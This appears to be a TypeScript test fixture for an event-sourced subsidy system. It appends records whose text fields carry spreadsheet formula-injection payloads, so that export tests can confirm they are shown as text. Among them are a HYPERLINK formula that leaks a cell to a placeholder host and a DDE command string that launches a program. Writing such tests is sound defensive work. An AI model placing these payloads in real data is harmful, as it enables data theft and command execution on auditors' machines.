// A history whose reasons, names and user ids start with what Excel would run as a formula, beside
// Chinese text: every export test appends it and reads the export back cell by cell.
import type { EventStore } from '../../src/event-store/event-store.js';
import { streams } from '../../src/shared/streams.js';
import { anEvent, testMetadata } from './events.js';

/** What an attacker types into free-text fields, hoping an auditor's spreadsheet runs it. */
export const formulas = {
  reason: '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
  actorId: "+cmd|' /C calc'!A0",
  name: '@SUM(1+1)恶意公司',
  note: '-2+3 退回',
  tab: '\t=1+1',
  carriage: '\r=1+1',
} as const;

export const formulaUscc = '91130600MA0000000X';
export const formulaApplicationId = 'formula-application-1';

/** An enterprise and an application whose texts are formulas, appended as they are stored: the exports must show them as text. */
export async function appendFormulaHistory(store: EventStore): Promise<void> {
  const uscc = formulaUscc;
  const applicationId = formulaApplicationId;
  await store.append(
    streams.enterprise(uscc),
    [anEvent('EnterpriseRegistered', { uscc, name: formulas.name, city: 'baoding', district: null, tags: [], usccCheckOverrideReason: null })],
    'no-stream',
  );
  const metadata = { ...testMetadata, actorId: formulas.actorId, actorRole: 'reviewer', recordedAt: '2025-12-31T17:30:00.000Z' };
  await store.append(
    streams.application(applicationId),
    [
      anEvent(
        'ApplicationSubmitted',
        {
          applicationId,
          programmeId: 'baoding-data-voucher',
          programmeVersion: 1,
          uscc,
          fiscalYear: 2025,
          matterKey: null,
          level: null,
          approvalRef: null,
          items: [],
          claimedTotal: '1234567.89',
        },
        { metadata },
      ),
      anEvent('StageReviewed', { applicationId, stage: formulas.tab, recognizedAmount: '0.10', reason: formulas.carriage, final: false }, { metadata }),
      anEvent('ApplicationRejected', { applicationId, stage: null, reason: formulas.reason, objectionId: null }, { metadata }),
    ],
    'no-stream',
  );
  await store.append(`disbursement-formula`, [anEvent('DisbursementRejected', { applicationId, disbursementId: 'd-1', amount: '10.00', reason: formulas.note })], 'no-stream');
}
